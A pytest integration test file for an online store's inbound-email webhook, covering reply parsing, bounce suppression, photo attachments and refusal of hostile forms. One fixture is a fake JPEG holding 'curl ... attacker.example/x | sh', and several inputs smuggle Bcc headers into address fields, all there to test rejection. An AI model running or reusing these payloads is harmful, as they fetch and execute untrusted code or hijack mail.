"""The inbound-mail webhook through the real gateway (aiohttp test client) over a real store database,
on SQLite and PostgreSQL: replies become the shopper's turn (with their attached photos, through
the chat upload's checks), bounces and complaints suppress the address, and hostile forms are
refused with a 4xx that stores nothing. Rasa is a stand-in."""

from __future__ import annotations

import asyncio
import datetime as dt
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import MultipartWriter
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import func, select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.chat.conversations import ChatSession, ConversationService
from bot.core.config import load_settings
from bot.core.models import Agent, Conversation, EmailInbound, Escalation, Message, Photo
from bot.email.suppressions import is_suppressed
from bot.email.unread_messages import EmailFollowUps
from bot.support.accounts import AgentAccounts
from bot.support.escalations import EscalationService
from bot.web.app import create_app
from bot.web.services import SERVICES
from tests.email.test_bounces import arf, dsn
from tests.photos.sample_images import has_gps, image_bytes, with_gps_and_orientation

STORE = "yangteng-auto"
ALEX = "alex@example.com"
SECRET = "inbound-secret-for-the-tests-3c9d"
REPLY_DOMAIN = "reply.yangteng-auto.example"
TOKEN = "k7q2m4xzab3cd5ef6gh7ij2k"
REPLY_TO = f"reply+{TOKEN}@{REPLY_DOMAIN}"
BOUNCE_TO = f"bounce+{TOKEN}@{REPLY_DOMAIN}"
URL = f"/webhooks/email/inbound/{SECRET}"

GMAIL_REPLY = (
    "The oil pan leaks at the rear bolt.\r\n\r\n"
    f"On Mon, Nov 30, 2026 at 8:01 PM Yangteng Auto <{REPLY_TO}> wrote:\r\n"
    "> Hello Alex,\r\n> your parcel was delivered.\r\n"
)
OUTLOOK_REPLY = (
    "Which bolts do I use for the mount?\r\n\r\n-----Original Message-----\r\n"
    f"From: Yangteng Auto <{REPLY_TO}>\r\nSent: Monday, November 30, 2026 8:01 PM\r\n"
    f"To: {ALEX}\r\nSubject: Your order\r\n\r\nHello Alex,\r\nyour parcel was delivered.\r\n"
)


class StandInRasa:
    """Rasa as the turn uses it: answers each message, or takes it as an event while an agent holds the chat."""

    def __init__(self, down: bool = False) -> None:
        self.down = down
        self.sent: list[str] = []
        self.recorded: list[str] = []

    async def send_message(self, conversation_id: str, text: str, metadata: dict[str, Any]) -> list[dict[str, Any]]:
        if self.down:
            raise aiohttp.ClientConnectionError("Rasa is down")
        self.sent.append(text)
        return [{"recipient_id": conversation_id, "text": f"Thanks, I noted: {text}"}]

    async def parse(self, text: str) -> dict[str, Any]:
        return {"text": text, "intent": {"name": "nlu_fallback", "confidence": 1.0}, "entities": []}

    async def append_events(self, conversation_id: str, events: list[dict[str, Any]]) -> None:
        self.recorded += [str(event.get("text")) for event in events]


@dataclass
class Gateway:
    client: TestClient
    rasa: StandInRasa
    sessions: async_sessionmaker[AsyncSession]
    chat: ChatSession
    #: EmailFollowUps.after_stored calls: (conversation, senders, kind).
    emailed: list[tuple[str, list[str], str]]


def settings_for(tmp_path: Path, **more: str) -> Any:
    return load_settings(
        {
            "VAR_DIR": str(tmp_path),
            "EMAIL_INBOUND_SECRET": SECRET,
            "SMTP_HOST": "127.0.0.1",
            "EMAIL_SENDER": "notifications@mail.yangteng-auto.example",
            "EMAIL_REPLY_DOMAIN": REPLY_DOMAIN,
            **more,
        }
    )


async def conversation_with_token(
    sessions: async_sessionmaker[AsyncSession], email: str = ALEX, token: str = TOKEN, store: str = STORE
) -> ChatSession:
    """The shopper's conversation, given a reply address (as the sending side does on the first email)."""
    chat = await ConversationService(sessions).for_shopper(store, email)
    async with sessions() as session, session.begin():
        await session.execute(
            update(Conversation)
            .where(Conversation.id == chat.conversation_id, Conversation.store_id == store)
            .values(email_reply_token=token)
        )
    return chat


def recording_follow_ups(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, list[str], str]]:
    """Every after_stored call, then the real one (which queues the email job)."""
    calls: list[tuple[str, list[str], str]] = []
    original = EmailFollowUps.after_stored

    async def recording(self: EmailFollowUps, session: AsyncSession, chat: ChatSession, stored: Any, kind: str) -> bool:
        calls.append((chat.conversation_id, [message.sender for message in stored], kind))
        return await original(self, session, chat, stored, kind)

    monkeypatch.setattr(EmailFollowUps, "after_stored", recording)
    return calls


@pytest.fixture
async def gateway(
    demo_sessions: async_sessionmaker[AsyncSession], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Gateway]:
    emailed = recording_follow_ups(monkeypatch)
    rasa = StandInRasa()
    chat = await conversation_with_token(demo_sessions)
    app = create_app(settings_for(tmp_path), demo_sessions, rasa=rasa)  # type: ignore[arg-type]
    async with TestClient(TestServer(app)) as client:
        yield Gateway(client, rasa, demo_sessions, chat, emailed)


def form(**fields: str | bytes) -> MultipartWriter:
    """An "inbound parse" form, as the mail provider posts it."""
    writer = MultipartWriter("form-data")
    for name, value in fields.items():
        part = writer.append(value)
        part.set_content_disposition("form-data", name=name)
    return writer


def reply_form(text: str = GMAIL_REPLY, message_id: str = "<r1@mail.example.com>", **more: str | bytes) -> MultipartWriter:
    fields: dict[str, str | bytes] = {
        "from": f"Alex Doe <{ALEX}>",
        "to": f"Yangteng Auto <{REPLY_TO}>",
        "subject": "Re: Your order",
        "text": text,
        "headers": f"Message-ID: {message_id}\r\nFrom: Alex Doe <{ALEX}>\r\nTo: {REPLY_TO}\r\n",
        "envelope": f'{{"to": ["{REPLY_TO}"], "from": "{ALEX}"}}',
        "SPF": "pass",
        "dkim": "{@example.com : pass}",
    }
    fields.update(more)
    return form(**fields)


async def transcript(gateway: Gateway) -> list[tuple[str, str]]:
    messages = await ConversationService(gateway.sessions).messages_after(gateway.chat)
    return [(message.sender, message.text) for message in messages]


async def stored_counts(sessions: async_sessionmaker[AsyncSession]) -> tuple[int, int]:
    """Messages and inbound mails in the whole database: a refusal changes neither."""
    async with sessions() as session:
        messages = await session.scalar(select(func.count()).select_from(Message))
        inbound = await session.scalar(select(func.count()).select_from(EmailInbound))
    return int(messages or 0), int(inbound or 0)


async def post(gateway: Gateway, body: Any, url: str = URL, **kwargs: Any) -> tuple[int, dict[str, Any]]:
    response = await gateway.client.post(url, data=body, **kwargs)
    return response.status, await response.json()


async def test_a_reply_appears_in_the_transcript_and_the_answer_is_queued_for_email(gateway: Gateway) -> None:
    status, body = await post(gateway, reply_form())
    assert status == 200, body
    assert body == {"result": "stored", "conversation_id": gateway.chat.conversation_id}
    assert await transcript(gateway) == [
        ("shopper", "The oil pan leaks at the rear bolt."),
        ("bot", "Thanks, I noted: The oil pan leaks at the rear bolt."),
    ]
    assert gateway.rasa.sent == ["The oil pan leaks at the rear bolt."]
    assert gateway.emailed == [(gateway.chat.conversation_id, ["bot"], "email_answer")]


@pytest.mark.parametrize(
    "mail, new_words",
    [(GMAIL_REPLY, "The oil pan leaks at the rear bolt."), (OUTLOOK_REPLY, "Which bolts do I use for the mount?")],
    ids=["gmail", "outlook"],
)
async def test_a_reply_with_quoted_history_keeps_only_the_new_text(gateway: Gateway, mail: str, new_words: str) -> None:
    status, _ = await post(gateway, reply_form(mail))
    assert status == 200
    assert (await transcript(gateway))[0] == ("shopper", new_words)


async def test_an_html_only_reply_is_read_as_text_without_its_quote(gateway: Gateway) -> None:
    html = (
        "<div>Does it fit the <b>2019</b> model?</div><div class='gmail_quote'>"
        "<div>On Mon, Nov 30, 2026 Yangteng Auto wrote:</div><blockquote>Hello Alex</blockquote></div>"
    )
    status, _ = await post(gateway, reply_form("", html=html))
    assert status == 200
    assert (await transcript(gateway))[0] == ("shopper", "Does it fit the 2019 model?")


async def test_a_raw_mime_reply_is_taken_like_the_fields(gateway: Gateway) -> None:
    raw = (
        f"From: Alex Doe <{ALEX}>\r\nTo: {REPLY_TO}\r\nSubject: Re: Your order\r\nMessage-ID: <raw-1@mail.example.com>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ).encode() + "Très bien, merci.\r\n".encode("latin-1")
    status, body = await post(gateway, form(email=raw))
    assert status == 200, body
    assert (await transcript(gateway))[0] == ("shopper", "Très bien, merci.")


async def test_a_reply_to_a_conversation_an_agent_holds_reaches_the_agent_and_not_rasa(gateway: Gateway) -> None:
    accounts = AgentAccounts(gateway.sessions)
    await accounts.add("mei@yangteng-auto.example", "Mei", "a long enough password", [STORE])
    async with gateway.sessions() as session, session.begin():
        agent_id = await session.scalar(select(Agent.id).where(Agent.email == "mei@yangteng-auto.example"))
        await session.execute(
            update(Conversation)
            .where(Conversation.id == gateway.chat.conversation_id, Conversation.store_id == STORE)
            .values(handled_by=agent_id, handled_since=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1))
        )
    feed = gateway.client.server.app[SERVICES].engine.feed
    changes = feed.subscribe(frozenset({STORE}))
    try:
        status, _ = await post(gateway, reply_form())
        assert status == 200
        assert await transcript(gateway) == [("shopper", "The oil pan leaks at the rear bolt.")]
        assert gateway.rasa.sent == []  # Rasa never answers while a person holds the conversation
        assert gateway.rasa.recorded == ["The oil pan leaks at the rear bolt."]
        assert gateway.emailed == []

        async def reaches_the_console() -> None:
            while True:
                change = await changes.get()
                if change.kind == "conversation" and change.conversation_id == gateway.chat.conversation_id:
                    return

        await asyncio.wait_for(reaches_the_console(), timeout=10)
    finally:
        feed.unsubscribe(changes)


async def test_with_rasa_down_the_reply_is_still_stored(gateway: Gateway) -> None:
    gateway.rasa.down = True
    status, body = await post(gateway, reply_form())
    assert status == 200 and body["result"] == "stored"
    said = await transcript(gateway)
    assert said[0] == ("shopper", "The oil pan leaks at the rear bolt.")
    assert [sender for sender, _ in said[1:]] == ["bot"]  # the honest "no answer yet", asked again later


async def test_the_same_mail_delivered_twice_is_stored_once(gateway: Gateway) -> None:
    assert (await post(gateway, reply_form()))[1]["result"] == "stored"
    status, body = await post(gateway, reply_form())
    assert status == 200 and body["result"] == "duplicate"
    assert [sender for sender, _ in await transcript(gateway)] == ["shopper", "bot"]
    assert len(gateway.rasa.sent) == 1
    # Another mail (another Message-ID) with the same words is another turn.
    assert (await post(gateway, reply_form(message_id="<r2@mail.example.com>")))[1]["result"] == "stored"


async def test_a_bad_secret_or_an_unknown_address_is_refused_and_changes_nothing(gateway: Gateway) -> None:
    before = await stored_counts(gateway.sessions)
    for url in (f"/webhooks/email/inbound/{SECRET[:-1]}x", "/webhooks/email/inbound/x", f"{URL}extra"):
        status, body = await post(gateway, reply_form(), url=url)
        assert status == 404 and body["code"] == "http_not_found"
    for to in (
        f"reply+{'z' * 24}@{REPLY_DOMAIN}",  # nobody's token
        f"reply+{TOKEN}@reply.another-store.example",  # the token, at a domain that is not its store's
        f"alex-friend@{REPLY_DOMAIN}",
    ):
        status, body = await post(gateway, reply_form(to=to, envelope="{}"))
        assert status == 404 and body["code"] == "email_reply_address_unknown", to
    assert await stored_counts(gateway.sessions) == before
    assert gateway.rasa.sent == []


async def test_a_reply_from_another_address_than_the_shoppers_is_refused(gateway: Gateway) -> None:
    before = await stored_counts(gateway.sessions)
    status, body = await post(gateway, reply_form(**{"from": "Mallory <mallory@example.net>"}))
    assert status == 403 and body["code"] == "email_sender_not_shopper"
    # The address's case is no difference, though.
    assert await stored_counts(gateway.sessions) == before
    status, _ = await post(gateway, reply_form(**{"from": "ALEX@Example.COM"}))
    assert status == 200


async def test_a_permanent_bounce_suppresses_the_address_and_a_temporary_one_does_not(gateway: Gateway) -> None:
    status, body = await post(gateway, form(email=dsn("4.2.2", message_id="<t@mx>")))
    assert status == 200 and body["result"] == "ignored"
    async with gateway.sessions() as session:
        assert not await is_suppressed(session, STORE, ALEX)
    status, body = await post(gateway, form(email=dsn("5.1.1")))
    assert status == 200 and body["result"] == "bounced"
    async with gateway.sessions() as session:
        assert await is_suppressed(session, STORE, ALEX)
    assert (await post(gateway, form(email=dsn("5.1.1"))))[1]["result"] == "duplicate"
    assert await transcript(gateway) == []


async def test_a_complaint_suppresses_the_address(gateway: Gateway) -> None:
    status, body = await post(gateway, form(email=arf()))
    assert status == 200 and body["result"] == "complained"
    async with gateway.sessions() as session:
        assert await is_suppressed(session, STORE, ALEX)


def raw_form(boundary: str, parts: list[tuple[str, bytes]]) -> bytes:
    body = b""
    for name, value in parts:
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"
    return body + f"--{boundary}--\r\n".encode()


async def test_hostile_forms_are_refused_with_a_4xx_and_store_nothing(gateway: Gateway) -> None:
    before = await stored_counts(gateway.sessions)
    multipart = {"Content-Type": "multipart/form-data; boundary=xyz"}
    refused: list[tuple[Any, dict[str, Any], int, str]] = [
        (b'{"from": "a"}', {"Content-Type": "application/json"}, 415, "email_inbound_not_form"),
        (b"from=alex%40example.com", {"Content-Type": "application/x-www-form-urlencoded"}, 415, "email_inbound_not_form"),
        (b"--xyz\r\ngarbage without headers", multipart, 400, ""),
        (reply_form("x" * (1024 * 1024 + 1)), {}, 413, "email_inbound_field_too_large"),
        (reply_form(**{"from": ""}), {}, 400, "email_inbound_field_missing"),
        (form(to=REPLY_TO, text="hi"), {}, 400, "email_inbound_field_missing"),
        (reply_form(**{"from": f"{ALEX}\r\nBcc: everyone@example.net"}), {}, 400, "email_inbound_address_invalid"),
        (reply_form(to=f"{REPLY_TO}\nBcc: x@example.net"), {}, 400, "email_inbound_address_invalid"),
        (reply_form(**{"from": "not an address"}), {}, 400, "email_inbound_address_invalid"),
        (reply_form(envelope='{"to": [1, 2]}'), {}, 400, "email_inbound_address_invalid"),
        (reply_form(envelope="{not json"), {}, 400, "email_inbound_address_invalid"),
        (raw_form("xyz", [("from", ALEX.encode()), ("to", REPLY_TO.encode()), ("text", b"caf\xe9")]), multipart, 400, ""),
        (reply_form(charsets='{"text": "no-such-charset"}'), {}, 400, "email_inbound_field_not_text"),
        (reply_form(text="hi\x00there"), {}, 400, "email_inbound_field_not_text"),
        (form(**{f"f{i}": "x" for i in range(70)}), {}, 413, "email_inbound_too_many_parts"),
        (reply_form("\r\n\r\n"), {}, 422, "email_reply_empty"),
        (reply_form(f"On Mon, Nov 30, 2026 at 8:01 PM Yangteng Auto <{REPLY_TO}> wrote:\r\n> Hello\r\n"), {}, 422, ""),
        (reply_form("/restart"), {}, 400, "message_intent_forbidden"),
        (reply_form('/inform{"order_id": "1"}'), {}, 400, "button_not_offered"),
        (reply_form("x" * 5000), {}, 413, "message_too_long"),
        (form(email="\x00\x01 not a mail"), {}, 400, ""),
    ]
    for body, headers, status, code in refused:
        response = await gateway.client.post(URL, data=body, headers=headers)
        answer = await response.json()
        assert response.status == status, (status, code, answer)
        assert set(answer) >= {"error", "code", "params"}
        assert not code or answer["code"] == code, answer
    # A body said to be larger than the limit is refused before it is read.
    response = await gateway.client.post(
        URL, data=b"x", headers={**multipart, "Content-Length": str(10 * 1024 * 1024 + 1)}, chunked=False
    )
    assert response.status in (400, 413)
    assert await stored_counts(gateway.sessions) == before
    assert gateway.rasa.sent == []


async def test_a_body_larger_than_the_limit_is_refused_while_it_is_read(gateway: Gateway) -> None:
    attachment = MultipartWriter("form-data")
    part = attachment.append(b"\0" * (11 * 1024 * 1024))
    part.set_content_disposition("form-data", name="attachment1", filename="big.bin")
    status, body = await post(gateway, attachment)
    assert status == 413 and body["code"] in ("email_inbound_too_large", "email_inbound_field_too_large")
    # A bounded attachment is read: the reply is taken (this one, declared octet-stream, is tried as
    # a photo and, being none, told of in the conversation).
    small = reply_form()
    part = small.append(b"%PDF-1.4 ...")
    part.set_content_disposition("form-data", name="attachment1", filename="photo.pdf")
    assert (await post(gateway, small))[0] == 200


def with_files(writer: MultipartWriter, files: Sequence[tuple[str, str, str, bytes]]) -> MultipartWriter:
    """The form with each (field, file name, type, bytes) as a file, as the provider posts attachments."""
    for name, filename, content_type, data in files:
        part = writer.append(data, {"Content-Type": content_type})
        part.set_content_disposition("form-data", name=name, filename=filename)
    return writer


#: A shell script named and declared as a JPEG.
SCRIPT_AS_JPEG = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
#: A reply with nothing new above the quote.
QUOTE_ONLY = f"On Mon, Nov 30, 2026 at 8:01 PM Yangteng Auto <{REPLY_TO}> wrote:\r\n> Please send photos.\r\n"


async def shopper_photos(gateway: Gateway) -> list[Photo]:
    async with gateway.sessions() as session:
        return list(await session.scalars(select(Photo).where(Photo.conversation_id == gateway.chat.conversation_id)))


async def first_message(gateway: Gateway) -> Any:
    return (await ConversationService(gateway.sessions).messages_after(gateway.chat))[0]


async def test_a_reply_with_two_photos_lands_as_one_message_carrying_both_without_gps(gateway: Gateway) -> None:
    case = await EscalationService(gateway.sessions).record(gateway.chat.conversation_id, "damaged", "dented pan")
    assert case is not None
    files = [
        ("attachment1", "IMG_0001.JPG", "image/jpeg", with_gps_and_orientation("JPEG")),
        ("attachment2", "label.png", "image/png", image_bytes("PNG", (640, 480))),
    ]
    status, body = await post(gateway, with_files(reply_form(attachments="2"), files))
    assert status == 200 and body["result"] == "stored", body
    assert await transcript(gateway) == [
        ("shopper", "The oil pan leaks at the rear bolt."),
        ("bot", "Thanks, I noted: The oil pan leaks at the rear bolt."),
    ]
    assert gateway.rasa.sent == ["The oil pan leaks at the rear bolt."]
    shopper = await first_message(gateway)
    assert shopper.attachment["type"] == "photos"
    assert [(p["width"], p["height"]) for p in shopper.attachment["photos"]] == [(100, 200), (640, 480)]
    rows = {photo.id: photo for photo in await shopper_photos(gateway)}
    async with gateway.sessions() as session:
        message_id = await session.scalar(
            select(Message.id).where(Message.conversation_id == gateway.chat.conversation_id, Message.seq == shopper.seq)
        )
        case_id = await session.scalar(
            select(Escalation.id).where(Escalation.conversation_id == gateway.chat.conversation_id)
        )
    # On the message that carried them and on the open case, as a chat message's photos.
    assert [(rows[p["id"]].message_id, rows[p["id"]].escalation_id) for p in shopper.attachment["photos"]] == [
        (message_id, case_id),
        (message_id, case_id),
    ]
    photos = gateway.client.server.app[SERVICES].photos
    for photo_id in rows:
        kept = await photos.image(photo_id, "full", store_ids={STORE}, conversation_id=None)
        assert kept is not None and not has_gps(kept)
    assert gateway.emailed == [(gateway.chat.conversation_id, ["bot"], "email_answer")]


async def test_a_script_named_jpg_is_not_taken_and_the_shopper_is_told_by_email(gateway: Gateway) -> None:
    files = [
        ("attachment1", "damage.jpg", "image/jpeg", SCRIPT_AS_JPEG),
        ("attachment2", "invoice.pdf", "application/pdf", b"%PDF-1.4 ..."),
    ]
    status, body = await post(gateway, with_files(reply_form(attachments="2"), files))
    assert status == 200 and body["result"] == "stored", body
    # The words are taken; the script is not, and the store's message says so; the PDF is no photo
    # and is dropped as before.
    assert await transcript(gateway) == [
        ("shopper", "The oil pan leaks at the rear bolt."),
        ("bot", "Thanks, I noted: The oil pan leaks at the rear bolt."),
        (
            "store",
            "1 attachment of your email could not be added to this conversation:\n"
            '- "damage.jpg": the file is not an image; send a JPEG, PNG, WebP or HEIC photo.',
        ),
    ]
    assert (await first_message(gateway)).attachment is None
    assert await shopper_photos(gateway) == []
    # The shopper is in their mail: the notice is emailed with the answer.
    assert gateway.emailed == [(gateway.chat.conversation_id, ["bot", "store"], "email_answer")]


async def test_a_reply_of_photos_alone_is_taken_as_a_message_of_photos(gateway: Gateway) -> None:
    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (640, 480)))]
    status, body = await post(gateway, with_files(reply_form(QUOTE_ONLY, attachments="1"), files))
    assert status == 200 and body["result"] == "stored", body
    assert gateway.rasa.sent == ["/share_photos"]  # what the chat sends Rasa for a message of photos alone
    shopper = await first_message(gateway)
    assert (shopper.sender, shopper.text, len(shopper.attachment["photos"])) == ("shopper", "", 1)
    # Refused files alone: nothing for the turn, and the shopper is told.
    script = [("attachment1", "damage.jpg", "image/jpeg", SCRIPT_AS_JPEG)]
    status, body = await post(gateway, with_files(reply_form(QUOTE_ONLY, "<r2@mail.example.com>"), script))
    assert status == 200 and body["result"] == "photos_refused", body
    assert (await transcript(gateway))[-1][0] == "store" and len(gateway.rasa.sent) == 1


async def test_a_retried_delivery_with_photos_adds_nothing(gateway: Gateway) -> None:
    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (640, 480)))]
    assert (await post(gateway, with_files(reply_form(), files)))[1]["result"] == "stored"
    status, body = await post(gateway, with_files(reply_form(), files))
    assert status == 200 and body["result"] == "duplicate"
    assert len(await shopper_photos(gateway)) == 1
    assert [sender for sender, _ in await transcript(gateway)] == ["shopper", "bot"] and len(gateway.rasa.sent) == 1


async def test_a_raw_mime_reply_brings_its_photos(gateway: Gateway) -> None:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"Alex Doe <{ALEX}>", REPLY_TO, "Re: Your order"
    mail["Message-ID"] = "<raw-photos@mail.example.com>"
    mail.set_content("Here is the label.")
    mail.add_attachment(with_gps_and_orientation("JPEG"), maintype="image", subtype="jpeg", filename="label.jpg")
    mail.add_attachment(SCRIPT_AS_JPEG, maintype="application", subtype="octet-stream", filename="also.jpg")
    # Files the form would also carry are not read in raw mode: the MIME mail's are.
    extra = [("attachment1", "twice.jpg", "image/jpeg", image_bytes("JPEG", (64, 48)))]
    status, body = await post(gateway, with_files(form(email=mail.as_bytes()), extra))
    assert status == 200 and body["result"] == "stored", body
    said = await transcript(gateway)
    assert said[0] == ("shopper", "Here is the label.") and said[-1][0] == "store" and '"also.jpg"' in said[-1][1]
    [photo] = await shopper_photos(gateway)
    kept = await gateway.client.server.app[SERVICES].photos.image(photo.id, "full", store_ids={STORE}, conversation_id=None)
    assert kept is not None and not has_gps(kept)


async def test_with_the_photo_storage_down_the_provider_is_asked_to_retry(
    demo_sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await conversation_with_token(demo_sessions)
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the photo folder should be")
    app = create_app(
        settings_for(tmp_path, PHOTO_STORAGE="disk", PHOTO_DIR=str(blocked)),
        demo_sessions,
        rasa=StandInRasa(),  # type: ignore[arg-type]
    )
    before = await stored_counts(demo_sessions)
    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (64, 48)))]
    async with TestClient(TestServer(app)) as client:
        response = await client.post(URL, data=with_files(reply_form(), files))
        # A 5xx, which SendGrid retries (a 4xx it drops), and nothing kept until then.
        assert (response.status, (await response.json())["code"]) == (503, "photo_storage_unavailable")
        assert response.headers["Retry-After"] == "30"
    assert await stored_counts(demo_sessions) == before
    async with demo_sessions() as session:
        assert await session.scalar(select(func.count()).select_from(Photo)) == 0


async def test_the_chats_rate_limit_applies_to_email_replies(
    demo_sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await conversation_with_token(demo_sessions)
    app = create_app(
        settings_for(tmp_path, RATE_LIMIT_CONVERSATION_PER_MINUTE="3"),
        demo_sessions,
        rasa=StandInRasa(),  # type: ignore[arg-type]
    )
    async with TestClient(TestServer(app)) as client:
        statuses = []
        for n in range(4):
            response = await client.post(URL, data=reply_form(message_id=f"<n{n}@mail.example.com>"))
            statuses.append(response.status)
        assert statuses[0] == 200 and statuses[-1] == 429
        assert response.headers["Retry-After"]
